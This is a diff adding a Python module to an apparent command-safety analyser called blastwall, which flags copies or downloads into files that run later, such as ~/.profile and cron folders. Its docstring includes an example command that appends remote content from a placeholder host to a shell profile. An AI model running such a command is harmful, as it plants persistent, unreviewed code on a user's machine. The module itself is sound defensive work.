@@ -1,0 +1,171 @@
+"""Files that run later, written with text blastwall cannot read or copied from another file.
+
+    curl -s https://x.example/setup >> ~/.profile    ->  asked: a new shell runs text no one has read
+    cp scripts/nightly.sh /etc/cron.daily/nightly    ->  nightly.sh's text judged as what cron will run
+    scp x.sh host:/etc/cron.daily/x, rsync x host:/etc/cron.d/, docker cp x.sh app:/etc/cron.daily/
+                                                     ->  the same, on the machine or container named
+
+The kinds of files that run later are the rows of rules/later.toml; the copying programs are its
+[[copy]] rows (the last operand is the destination; a folder takes each source's name). A source
+on this machine is read (earlier writes on the line included); one that cannot be read, or lives
+on another machine, is text blastwall cannot read, and a write of it into such a file asks. A new
+script that runs only when a command names it (`when_named`) is data until then, as it is when
+written with `cat >`.
+"""
+
+from __future__ import annotations
+
+import functools
+import posixpath
+from typing import Any
+
+from blastwall import rx
+from blastwall.analyze.base import Scope
+from blastwall.analyze.shell.ir import Word
+from blastwall.model import Effect, Finding, Severity
+
+_REMOTE = rx.compile(r"^(?:[A-Za-z0-9_.@%\[\]-]+/)?[A-Za-z0-9_.@%\[\]-]+:")  # host:, user@host:, ns/pod:, ctr:
+
+
+@functools.cache
+def _rows() -> dict[str, dict[str, Any]]:
+    from blastwall.analyze.later.kinds import table
+
+    return {name: row for row in table().get("copy", []) for name in row["programs"]}
+
+
+def copy_programs() -> frozenset[str]:
+    return frozenset(_rows())
+
+
+def copied_later(name: str, argv: list[Word], scope: Scope, source: str) -> list[Finding]:
+    """Findings for the files that run later which `argv` (a copying program) writes."""
+    row = _rows().get(name)
+    if row is None:
+        return []
+    operands = _operands(argv[1:], row)
+    folder = _option_value(argv[1:], row.get("target_options", []))
+    if not operands or (folder is None and len(operands) < 2):
+        return []
+    sources, dest = (operands, folder) if folder is not None else (operands[:-1], operands[-1])
+    if dest is None or not sources:
+        return []
+    label = f"{name} {row['subcommand']}" if row.get("subcommand") else name
+    linked = name in ("ln", "gln") and any(w.text == "--symbolic" or (w.text[:1] == "-" and w.text[1:2] != "-" and
+                                                                        "s" in w.text) for w in argv[1:])
+    out: list[Finding] = []
+    for src in sources:
+        for path, remote in _destinations(dest, src, folder is not None or len(sources) > 1, scope):
+            if linked and not src.text.startswith(("/", "~", "$")):  # ln -s ../../x DEST: relative to DEST's folder
+                src = src._replace(text=posixpath.normpath(posixpath.join(posixpath.dirname(path), src.text)))
+            out += _written(path, remote, src, label, scope, source)
+    return out
+
+
+def unread_text(path: str, what: str, scope: Scope, source: str, *, append: bool) -> list[Finding]:
+    """A write of text blastwall cannot read into `path`: asked when `path` runs later."""
+    from blastwall.analyze.later.kinds import kind_of
+    from blastwall.analyze.later.written import on_disk
+
+    kind = kind_of(path)
+    if kind is None or (kind.when_named and not append and not on_disk(path, scope)):
+        return []
+    return [_finding(path, what, kind.when_text(""), source)]
+
+
+def _written(path: str, remote: bool, src: Word, name: str, scope: Scope, source: str) -> list[Finding]:
+    from blastwall.analyze.later.kinds import kind_of
+
+    text = None if src.dynamic or _REMOTE.match(src.text) else _source_text(src.text, scope)
+    kind = kind_of(path, text)
+    if kind is None:
+        return []
+    if kind.when_named and (remote or not _on_disk(path, scope)):
+        return []  # a new script that runs only when named: data until then
+    if text is None:
+        return [_finding(path, f"{name} {src.text}", kind.when_text(""), source)]
+    from blastwall.analyze.later.written import written_findings
+
+    return written_findings(path, text, scope._replace(read_files=False) if remote else scope)
+
+
+def _finding(path: str, what: str, when: str, source: str) -> Finding:
+    from blastwall.analyze.later.kinds import rule
+
+    row = rule("later.file:unread-text")
+    return Finding(rule_id=row["id"], effect=Effect(row["effect"]), severity=Severity.parse(row["severity"]),
+                   reason=str(row["reason"]).format(target=path, label=what[:80], when=when), target=path,
+                   safer=str(row.get("safer", "")), source=source[:200])
+
+
+def _source_text(path: str, scope: Scope) -> str | None:
+    from blastwall.analyze.shell.scripts import script_text
+
+    return script_text(path, scope).text
+
+
+def _on_disk(path: str, scope: Scope) -> bool:
+    from blastwall.analyze.later.written import on_disk
+
+    full = posixpath.join(scope.shell_dir, path) if scope.shell_dir and not path.startswith(("/", "~", "$")) else path
+    return on_disk(full, scope)
+
+
+def _destinations(dest: Word, src: Word, into: bool, scope: Scope) -> list[tuple[str, bool]]:
+    """The paths `src` may land at: DEST itself, or DEST/NAME when DEST is (or may be) a folder."""
+    if dest.dynamic:
+        return []
+    text = dest.text
+    remote = bool(_REMOTE.match(text)) and not text.startswith(("/", ".", "~"))
+    if remote:
+        text = text.split(":", 1)[1].lstrip(":")
+        text = text if text.startswith(("/", "~")) else posixpath.join("~", text)  # host:x is in the home folder
+    base = posixpath.basename(src.text.rstrip("/")) if not src.dynamic else ""
+    inside = posixpath.join(text, base) if base and base not in (".", "..") else None
+    if into or text.endswith("/") or text in ("~", "") or (not remote and _is_dir(text, scope)):
+        return [(inside, remote)] if inside else []
+    return [(text, remote)] + ([(inside, remote)] if inside else [])
+
+
+def _is_dir(path: str, scope: Scope) -> bool:
+    import os
+
+    if not scope.read_files:
+        return False
+    full = os.path.expanduser(path)
+    if not os.path.isabs(full):
+        full = os.path.join(scope.shell_dir or scope.cwd or "", full)
+    return os.path.isdir(full)
+
+
+def _operands(args: list[Word], row: dict[str, Any]) -> list[Word] | None:
+    """The operands after the program (and its subcommand), options and their values left out."""
+    valued = set(row.get("value_options", [])) | set(row.get("target_options", []))
+    out: list[Word] = []
+    sub = row.get("subcommand")
+    i = 0
+    while i < len(args):
+        w = args[i]
+        if w.text == "--":
+            out += args[i + 1:]
+            break
+        if w.text.startswith("-") and len(w.text) > 1:
+            i += 2 if w.text in valued else 1
+            continue
+        out.append(w)
+        i += 1
+    if sub:
+        if not out or out[0].text != sub:
+            return None
+        out = out[1:]
+    return out
+
+
+def _option_value(args: list[Word], options: list[str]) -> Word | None:
+    for i, w in enumerate(args):
+        if w.text in options and i + 1 < len(args):
+            return args[i + 1]
+        for o in options:
+            if o.startswith("--") and w.text.startswith(o + "="):
+                return Word(w.text.split("=", 1)[1], dynamic=w.dynamic)
+    return None
